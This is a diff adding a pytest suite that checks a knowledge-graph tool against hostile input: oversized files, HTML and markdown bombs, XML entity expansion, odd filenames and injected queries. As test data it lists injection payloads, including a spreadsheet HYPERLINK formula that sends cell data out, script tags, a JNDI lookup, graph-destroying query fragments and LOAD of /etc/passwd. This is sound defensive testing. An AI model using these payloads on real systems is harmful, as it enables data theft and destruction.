@@ -1,0 +1,197 @@
+"""Input made to break the tool: it is refused, or taken as plain text, in bounded time and memory."""
+
+import csv
+import io
+import os
+import time
+import tracemalloc
+from collections.abc import Iterator
+from contextlib import contextmanager, suppress
+from pathlib import Path
+from xml.etree import ElementTree
+
+import pytest
+from click.testing import CliRunner
+
+import kg
+from benchmarks.fuzz import TARGETS, mutate_for
+from kg.cli import main
+from kg.decode import MAX_BYTES
+from kg.errors import KgError, QueryRefused, ReadError, UnreadableSource
+from kg.model import Document, Entity, Extraction
+from kg.namespace import document_iri
+from kg.pipeline import extract_document
+from kg.read import find_sources, read_bytes, read_source
+from kg.show import describe_claim
+from kg.store import Store
+from tests.builders import make_claim, make_document, make_entity
+
+EVIL = (
+    '=HYPERLINK("http://example.org/?"&A1,"x")', "\x1b]0;owned\x07\x1b[2J", '"> <script>alert(1)</script>', "</graph></graphml><!--",
+    "]]>&xxe;", '> <urn:a> <urn:b> <urn:c> .\n<urn:x> <urn:y> "', '" . } ; DROP ALL ; INSERT DATA { <urn:a> <urn:b> "',
+    "a') DETACH DELETE n //",
+    "\\u003e",     "\u202egnp.exe", "@SUM(1)", "-2+3", "\t=1", "${jndi:ldap://example.org}", "%s%n{0}",
+)  # fmt: skip
+
+
+@contextmanager
+def within(seconds: float, megabytes: int) -> Iterator[None]:
+    """Assert that the block takes no more time, nor memory of Python's."""
+    tracemalloc.start()
+    began = time.perf_counter()
+    try:
+        yield
+        taken, peak = time.perf_counter() - began, tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert taken < seconds
+    assert peak < megabytes * 1_000_000
+
+
+def test_a_file_of_a_gigabyte_is_refused_unread(tmp_path: Path) -> None:
+    path = tmp_path / "big.txt"
+    with path.open("wb") as file:
+        file.truncate(1 << 30)
+    with within(0.5, 1), pytest.raises(UnreadableSource, match=f"{MAX_BYTES:,} bytes"):
+        read_source(str(path))
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        b"<div>" * 200_000, b"<div>" * 1_500 + b"Quillmark paid Tessera." + b"</div>" * 1_500, b"<a " + b"x='y' " * 200_000,
+        b"<table><tr><td>" * 50_000, b"<!--" * 100_000, b"&amp;" * 300_000, b"<p>" + b"&#9999999;" * 50_000, b"<" * 500_000,
+        b"<b><i>" * 30_000 + b"x", b"<p>word</p>" * 60_000,
+    ],
+    ids=["depth", "below-the-limit", "attributes", "tables", "comments", "entities", "references", "brackets", "formatting", "paragraphs"],
+)  # fmt: skip
+def test_hostile_pages(page: bytes) -> None:
+    began = time.perf_counter()
+    with suppress(ReadError):
+        read_bytes(b"<html><body><article>" + page + b"</article></body></html>", "a.html")
+    assert time.perf_counter() - began < 20
+
+
+def test_entity_bombs_do_not_expand() -> None:
+    levels = "".join(f'<!ENTITY e{k} "{f"&e{k - 1};" * 10}">' for k in range(1, 10))
+    page = f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY e0 "bomb">{levels}<!ENTITY x SYSTEM "file:///etc/hostname">]>'
+    page += "<html><body><article><p>Quillmark paid Tessera &e9; and &x; on Friday, says the firm.</p></article></body></html>"
+    with within(5, 50):
+        text = read_bytes(page.encode(), "a.xhtml").text
+    assert len(text) < 1_000
+    host = Path("/etc/hostname")
+    assert not host.is_file() or host.read_text().strip() not in text
+
+
+def test_brackets_without_end_are_refused() -> None:
+    with within(2, 50), pytest.raises(UnreadableSource, match="10,000 brackets"):
+        read_bytes(b"word " + b"![" * 1_000_000, "a.md")
+
+
+@pytest.mark.parametrize("mark", ["> ", "- ", "[", "*", "`", "![", "<", "|a", "\\", "1. ", "    ", "[a](", "**a_"])
+def test_hostile_markdown(mark: str) -> None:
+    with within(20, 400):
+        try:
+            read_bytes(("word " + mark * 4_000).encode(), "a.md")
+            read_bytes((mark * 300 + "word\n\n").encode() * 20, "a.md")
+        except ReadError:
+            pass
+
+
+@pytest.mark.parametrize("joint", [" and Harlow paid Tessera", ", which Harlow, who said that", " of the board", " Quillmark"])
+def test_a_sentence_of_ten_thousand_words(joint: str) -> None:
+    text = "Quillmark said that Harlow paid Tessera" + joint * (10_000 // len(joint.split())) + "."
+    document = Document(document_iri("a.txt", text), "a.txt", text)
+    began = time.perf_counter()
+    extraction = extract_document(document)
+    assert time.perf_counter() - began < 60
+    assert all(text[c.start : c.end] == c.quote for c in extraction.claims)
+
+
+def test_many_tiny_files_and_odd_names(tmp_path: Path) -> None:
+    for k in range(3_000):
+        (tmp_path / f"{k}.txt").touch()
+    odd = ["-rf.txt", "a\nb.txt", " .txt", "ü.txt", "'\"$(x).txt", "*.txt", os.fsdecode(b"\xff.txt"), "\x1b[31m.txt"]
+    for name in odd:
+        (tmp_path / name).write_text("Larkfield Motors sued Harlow.", "utf-8")
+    (tmp_path / "loop").symlink_to(tmp_path)
+    (tmp_path / "self.txt").symlink_to(tmp_path / "self.txt")
+    (tmp_path / "nowhere.txt").symlink_to(tmp_path / "missing" / "..")
+    os.mkfifo(tmp_path / "pipe.txt")
+    began = time.perf_counter()
+    found = find_sources([str(tmp_path)])
+    assert len(found) == 3_000 + len(odd)
+    assert time.perf_counter() - began < 5
+    runner = CliRunner(env={"KG_STORE": str(tmp_path / "kg.store")})
+    result = runner.invoke(main, ["add", *(str(tmp_path / name) for name in odd)])
+    assert result.exit_code in (0, 1) and result.exception is None or isinstance(result.exception, SystemExit)
+    assert "\x1b" not in result.stdout + result.stderr
+    listed = kg.open(tmp_path / "kg.store", read_only=True).documents()
+    assert len(listed) >= len(odd) - 1  # a name that is no text cannot be kept
+
+
+def evil_store(evil: str) -> Store:
+    """Every field that comes from a source holds *evil*."""
+    text = f"{evil} paid {evil} now."
+    document = make_document(f"{evil}.txt", text, title=evil, authors=(evil,), publisher=evil, url=evil)
+    subject, object_ = Entity(make_entity(evil).id, evil, "Person", (evil + "!",)), make_entity(evil + " Inc")
+    claim = make_claim(document, subject, "rel:pay", object_, text, reason=evil)
+    store = Store.open()
+    store.add(Extraction(document, tuple(sorted((subject, object_), key=lambda e: e.id)), (claim,)))
+    store.add(Extraction(document, tuple(sorted((subject, object_), key=lambda e: e.id)), ()))
+    store.add(Extraction(document, tuple(sorted((subject, object_), key=lambda e: e.id)), (claim,)))  # through an update
+    return store
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_text_never_becomes_syntax(evil: str, tmp_path: Path) -> None:
+    graph = kg.Graph(evil_store(evil))
+    (claim,) = graph.claims()
+    assert claim.subject.label == evil and claim.quote == f"{evil} paid {evil} now."
+    assert len(graph.documents()) == 1
+    shown = describe_claim(claim, "a.txt")
+    assert not {"\x1b", "\x07", "\u202e"} & set(shown)
+    for suffix in ("graphml", "gexf"):
+        tree = ElementTree.fromstring(graph.export(tmp_path / f"a.{suffix}").read_text("utf-8"))
+        assert sum(e.tag.endswith("}edge") for e in tree.iter()) == 1
+        assert not any(e.tag.endswith("script") for e in tree.iter())
+    text = graph.export(tmp_path / "a.csv").read_text("utf-8")
+    head, row = csv.reader(io.StringIO(text, newline=""))
+    assert len(row) == len(head)
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+    table = graph.query("SELECT ?l { ?e skos:prefLabel ?l }").to_csv()
+    assert not any(cell[:1] in "=+-@\t\r" for (cell,) in csv.reader(io.StringIO(table, newline="")) if cell)
+    page = graph.view().html
+    assert "<script>alert(1)" not in page and "\x1b]" not in page
+    again = kg.open()
+    again.load(graph.export(tmp_path / "a.nq"))
+    assert list(again.store.nquads()) == list(graph.store.nquads())
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "SELECT * { SERVICE <http://127.0.0.1:9> { ?s ?p ?o } }", "SELECT * { SERVICE SILENT ?x { ?s ?p ?o } }", "LOAD <file:///etc/passwd>",
+        "# c\nLOAD <http://127.0.0.1:9>", "PREFIX a: <urn:a> LOAD <http://127.0.0.1:9>", "SELECT * { { SeRvIcE<http://127.0.0.1:9> {} } }",
+        "INSERT DATA { <urn:a> <urn:b> <urn:c> }", "BASE <urn:x> CLEAR ALL", "SELECT * {} ; DROP ALL",
+        "SELECT * { GRAPH ?g { SERVICE <http://127.0.0.1:9> { ?s ?p '#' } } }",
+    ],
+)  # fmt: skip
+def test_no_query_writes_or_reaches_out(query: str) -> None:
+    store = evil_store("x")
+    before = list(store.nquads())
+    with pytest.raises(KgError) as caught:
+        kg.Graph(store).query(query)
+    assert isinstance(caught.value, QueryRefused) or "line 1" in str(caught.value)
+    assert list(store.nquads()) == before
+
+
+def test_hidden_service_is_refused() -> None:
+    for text in ("SELECT * { ?s ?p '''a''b''' . SERVICE <http://127.0.0.1:9> {} }", 'SELECT * { ?s ?p "\\"" . SERVICE <urn:x> {} }'):
+        with pytest.raises(QueryRefused):
+            kg.open().query(text)
+
+
+@pytest.mark.parametrize("target", sorted(TARGETS))
+def test_fuzz_shortly(target: str) -> None:
+    assert mutate_for(target, 1.5, seed=os.getpid()) > 20
